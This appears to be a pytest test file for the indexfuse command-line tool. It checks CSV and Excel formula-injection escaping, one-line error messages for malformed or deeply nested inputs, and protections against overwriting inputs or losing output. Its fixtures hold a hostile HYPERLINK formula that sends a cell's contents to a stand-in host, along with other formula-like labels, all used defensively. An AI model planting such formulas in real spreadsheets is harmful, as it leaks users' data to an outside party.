"""The command line and the spreadsheet writers under attack and accident:
labels that look like formulas, inputs that break the readers, outputs that
would overwrite an input or be lost at the end of a long run."""

from __future__ import annotations

import os
import stat
import sys
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import indexfuse
import indexfuse_tools
from indexfuse_tools._cli import common as cli_common
from indexfuse_tools._cli import report as cli_report
from indexfuse_tools._cli import robustness as cli_robustness
from indexfuse_tools._cli import score as cli_score
from indexfuse_tools._core import atomic_path, csv_safe, csv_safe_label
from indexfuse_tools._cli import EXIT_INTERNAL, main

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
SCHEMA = {FORMULA: ["=a", ("b", -1)], "#N/A": ["c", "d"]}
TOML = f"""'{FORMULA}' = ["=a", "b:-1"]\n"#N/A" = ["c", "d"]\n"""


def _table(rows: int = 40) -> pd.DataFrame:
    rng = np.random.default_rng(3)
    good, bad = rng.normal(size=rows), rng.normal(size=rows)
    return pd.DataFrame(
        {
            "=a": good + rng.normal(scale=0.5, size=rows),
            "b": -good + rng.normal(scale=0.5, size=rows),
            "c": bad + rng.normal(scale=0.5, size=rows),
            "d": bad + rng.normal(scale=0.5, size=rows),
        },
        index=pd.Index(["@SUM(1+1)", "-unit", "+unit", *(f"unit {i}" for i in range(rows - 3))], name="=id"),
    )


@pytest.fixture
def work(tmp_path, monkeypatch):
    """A folder with the table (hostile labels), its TOML schema and a fitted model; the working directory."""
    data = _table()
    data.to_csv(tmp_path / "table.csv")
    (tmp_path / "schema.toml").write_text(TOML)
    model = indexfuse.indexpca_diment(SCHEMA, scale_method="z_score")  # scores of both signs
    model.fit(data)
    indexfuse_tools.dump(model, tmp_path / "model.json")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _run(capsys, *args):
    status = main([str(arg) for arg in args])
    out, err = capsys.readouterr()
    return status, out, err


def _one_line_error(status, err, phrase):
    assert status == 2, err
    assert err.count("\n") == 1 and err.startswith("indexfuse: error: "), err
    assert phrase in err, err


# ------------------------------------------------------------ spreadsheets --


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-inf", "'-inf"),
        ("-1.5", "-1.5"),
        ("+2e3", "+2e3"),
        (-1.5, -1.5),
        ("a=b", "a=b"),
        ("", ""),
        (("=x", 1), ("=x", 1)),
    ],
)
def test_csv_labels_that_a_spreadsheet_would_run(value, safe):
    assert csv_safe_label(value) == safe


def test_csv_safe_keeps_numbers_and_every_kind_of_label():
    table = pd.DataFrame(
        {("=top", "x"): ["=1", "b"], ("ok", "-y"): [-1.0, 2.0]},
        index=pd.MultiIndex.from_tuples([("+r", 1), ("s", -2)], names=["@k", None]),
    )
    safe = csv_safe(table)
    assert list(safe.columns) == [("'=top", "x"), ("ok", "'-y")]
    assert list(safe.index) == [("'+r", 1), ("s", -2)] and list(safe.index.names) == ["'@k", None]
    assert list(safe.iloc[:, 0]) == ["'=1", "b"] and safe.iloc[:, 1].tolist() == [-1.0, 2.0]
    assert list(table.columns)[0] == ("=top", "x")  # the original is left as it was


def test_audit_to_excel_writes_labels_as_text(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    data = _table()
    model = indexfuse.indexpca_diment(SCHEMA)
    model.fit(data)
    path = tmp_path / "audit.xlsx"
    indexfuse_tools.audit(model, data).to_excel(path)
    book = openpyxl.load_workbook(path)
    labels = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in labels} == {"s"}
    texts = {cell.value for cell in labels}
    assert FORMULA in texts and "#N/A" in texts and "=a" in texts


def _read_csv(path):
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.mark.parametrize("raw", [False, True])
def test_score_csv_keeps_labels_as_text_unless_raw(work, capsys, raw):
    status, _, err = _run(capsys, "score", "table.csv", "--model", "model.json", "-o", "scores.csv",
                          *(["--raw-csv"] if raw else []))  # fmt: skip
    assert status == 0, err
    scores = _read_csv(work / "scores.csv")
    quote = "" if raw else "'"
    assert scores.columns[0] == f"{quote}=id" and f"{quote}{FORMULA}" in scores.columns and "#N/A" in scores.columns
    assert list(scores.iloc[:3, 0]) == [f"{quote}@SUM(1+1)", f"{quote}-unit", f"{quote}+unit"]
    numbers = scores[f"{quote}{FORMULA}"].astype(float)
    assert (numbers < 0).any()  # negative scores stay numbers
    want = indexfuse_tools.results(indexfuse_tools.load(work / "model.json"), _table())
    np.testing.assert_allclose(numbers, want[FORMULA].to_numpy(dtype=float), rtol=1e-12)


def test_robustness_ranks_keep_labels_as_text(work, capsys):
    status, _, err = _run(capsys, "robustness", "table.csv", "--schema", "schema.toml", "--method", "bootstrap",
                          "-n", "4", "--workers", "1", "--quiet", "--ranks", "ranks.csv")  # fmt: skip
    assert status == 0, err
    ranks = _read_csv(work / "ranks.csv")
    assert ranks.columns[0] == "'=id" and list(ranks.iloc[:3, 0]) == ["'@SUM(1+1)", "'-unit", "'+unit"]


# ------------------------------------------------------------ exit status --


def _deep_toml(path):
    path.write_text("a = " + "[" * 900 + "]" * 900 + "\n")


def _deep_json(path):
    path.write_text('{"a": ' + "[" * 900 + "]" * 900 + "}")


def _constant_table(path):
    _table().assign(**{name: 1.0 for name in _table().columns}).to_csv(path)


def _not_a_zip(path):
    path.write_bytes(b"PK\x03\x04" + b"\0" * 100)


def _zip_without_a_workbook(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("notes.txt", "hello")


@pytest.mark.parametrize(
    "make, name, args, phrase",
    [
        (_not_a_zip, "t.xlsx", ["fit", "t.xlsx", "--schema", "schema.toml"], "t.xlsx: not an Excel workbook"),
        (_zip_without_a_workbook, "t.xlsx", ["fit", "t.xlsx", "--schema", "schema.toml"], "not an Excel workbook"),
        (_constant_table, "t.csv", ["fit", "t.csv", "--schema", "schema.toml"], "constant"),
        (_constant_table, "t.csv", ["report", "t.csv", "--model", "model.json", "-o", "r.html"], "constant"),
        (None, "", ["fit", "table.csv", "--schema", "schema.toml", "--resolution", "1e300"], "--resolution 1e+300"),
        (None, "", ["score", "table.csv", "--schema", "schema.toml", "--resolution", "2"], "(0, 1]"),
        (_deep_toml, "s.toml", ["fit", "table.csv", "--schema", "s.toml"], "s.toml: not valid TOML: nested too deeply"),
        (_deep_json, "s.json", ["fit", "table.csv", "--schema", "s.json"], "s.json: the schema nests 901 levels"),
        (None, "", ["robustness", "table.csv", "--schema", "schema.toml", "-n", "100000000000"], "at most 1048576"),
    ],
)
def test_user_mistakes_are_one_line_and_status_2(work, capsys, make, name, args, phrase):
    if make is not None:
        make(work / name)
    status, out, err = _run(capsys, *args)
    assert out == ""
    _one_line_error(status, err, phrase)


def test_an_internal_fault_keeps_its_traceback_and_its_own_status(work, capsys, monkeypatch):
    def broken(*args, **kwargs):
        raise ZeroDivisionError("float division by zero")

    monkeypatch.setattr(cli_score, "results", broken)
    status, _, err = _run(capsys, "score", "table.csv", "--model", "model.json")
    assert status == EXIT_INTERNAL and EXIT_INTERNAL not in (0, 1, 2)
    assert "Traceback (most recent call last)" in err and "ZeroDivisionError" in err


@pytest.mark.parametrize(
    "content, phrase",
    [
        ('{"format": ', "bad.json: not valid JSON: "),
        (b"\xff\xfe{}", "bad.json: not UTF-8"),
        ("[1, 2]", "bad.json: "),
        (None, "bad.json: cannot read the model: No such file"),
    ],
)
def test_model_file_errors_name_the_file(work, capsys, content, phrase):
    if isinstance(content, bytes):
        (work / "bad.json").write_bytes(content)
    elif content is not None:
        (work / "bad.json").write_text(content)
    status, _, err = _run(capsys, "score", "table.csv", "--model", "bad.json")
    _one_line_error(status, err, f"indexfuse: error: {phrase}")


# -------------------------------------------------------------- data loss --


@pytest.mark.parametrize(
    "args, victim",
    [
        (["score", "table.csv", "--model", "model.json", "-o", "table.csv"], "table.csv"),
        (["score", "table.csv", "--model", "model.json", "-o", "model.json"], "model.json"),
        (["score", "table.csv", "--model", "model.json", "-o", "link.csv"], "table.csv"),
        (["score", "table.csv", "--model", "model.json", "-o", "./sub/../table.csv"], "table.csv"),
        (["fit", "table.csv", "--schema", "schema.toml", "-o", "schema.toml"], "schema.toml"),
        (["report", "table.csv", "--model", "model.json", "-o", "hard.json"], "model.json"),
        (["robustness", "table.csv", "--schema", "schema.toml", "--ranks", "table.csv"], "table.csv"),
    ],
)
def test_an_output_never_overwrites_an_input(work, capsys, args, victim):
    (work / "sub").mkdir()
    (work / "link.csv").symlink_to(work / "table.csv")
    os.link(work / "model.json", work / "hard.json")
    before = (work / victim).read_bytes()
    status, _, err = _run(capsys, *args)
    _one_line_error(status, err, "that is the ")
    assert (work / victim).read_bytes() == before


def test_a_failed_write_leaves_the_old_file(work, capsys, monkeypatch):
    (work / "report.html").write_text("the good report")

    def half_then_fail(model, data, path, **kwargs):
        Path(path).write_text("<html><body>half a rep")
        raise ZeroDivisionError("in the middle")

    monkeypatch.setattr(cli_report, "report", half_then_fail)
    status, _, _ = _run(capsys, "report", "table.csv", "--model", "model.json", "-o", "report.html")
    assert status == EXIT_INTERNAL
    assert (work / "report.html").read_text() == "the good report"
    assert sorted(path.name for path in work.iterdir()) == ["model.json", "report.html", "schema.toml", "table.csv"]


def test_atomic_path_replaces_whole_or_not_at_all(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old")
    target.chmod(0o640)
    with pytest.raises(KeyboardInterrupt):
        with atomic_path(target) as path:
            path.write_text("new, but cut sh")
            raise KeyboardInterrupt
    assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]
    with atomic_path(target) as path:
        path.write_text("new")
    assert target.read_text() == "new" and stat.S_IMODE(target.stat().st_mode) == 0o640
    fresh = tmp_path / "fresh.csv"
    with atomic_path(fresh) as path:
        path.write_text("x")
    umask = os.umask(0)
    os.umask(umask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~umask


def test_writing_through_a_link_keeps_the_link(tmp_path):
    real, link = tmp_path / "real.csv", tmp_path / "link.csv"
    real.write_text("old")
    link.symlink_to(real)
    with atomic_path(link) as path:
        path.write_text("new")
    assert link.is_symlink() and real.read_text() == "new"


# -------------------------------------------------------------- lost work --


@pytest.mark.parametrize(
    "outputs, phrase",
    [
        (["-o", "missing/x.zip"], "--output missing/x.zip: no folder"),
        (["--ranks", "missing/ranks.csv"], "--ranks missing/ranks.csv: no folder"),
        (["--report", "."], "--report .: that is a folder"),
        (["-o", "out.zip", "--report", "out.zip"], "--report out.zip: that is --output"),
    ],
)
def test_robustness_checks_every_output_before_the_analysis(work, capsys, monkeypatch, outputs, phrase):
    started = []
    monkeypatch.setattr(cli_robustness, "robustness", lambda *args, **kwargs: started.append(args))
    status, _, err = _run(capsys, "robustness", "table.csv", "--schema", "schema.toml", "--quiet", *outputs)
    _one_line_error(status, err, phrase)
    assert started == []


@pytest.mark.parametrize(
    "args",
    [
        ["fit", "table.csv", "--schema", "schema.toml", "-o", "missing/model.json"],
        ["score", "table.csv", "--model", "model.json", "-o", "missing/scores.csv"],
        ["report", "table.csv", "--schema", "schema.toml", "-o", "missing/report.html"],
    ],
)
def test_every_command_checks_its_output_before_the_work(work, capsys, monkeypatch, args):
    read = []
    monkeypatch.setattr(cli_common, "read_table", lambda *a, **k: read.append(a))
    status, _, err = _run(capsys, *args)
    _one_line_error(status, err, "no folder")
    assert read == []


@pytest.mark.skipif(sys.platform == "win32" or os.geteuid() == 0, reason="permissions do not bind root")
def test_what_cannot_be_written_is_refused_first(work, capsys):
    (work / "locked").mkdir(mode=0o500)
    status, _, err = _run(capsys, "score", "table.csv", "--model", "model.json", "-o", "locked/s.csv")
    _one_line_error(status, err, "cannot write in the folder")
    (work / "kept.csv").write_text("kept")
    (work / "kept.csv").chmod(0o444)
    status, _, err = _run(capsys, "score", "table.csv", "--model", "model.json", "-o", "kept.csv")
    _one_line_error(status, err, "the file is read-only")
    assert (work / "kept.csv").read_text() == "kept"
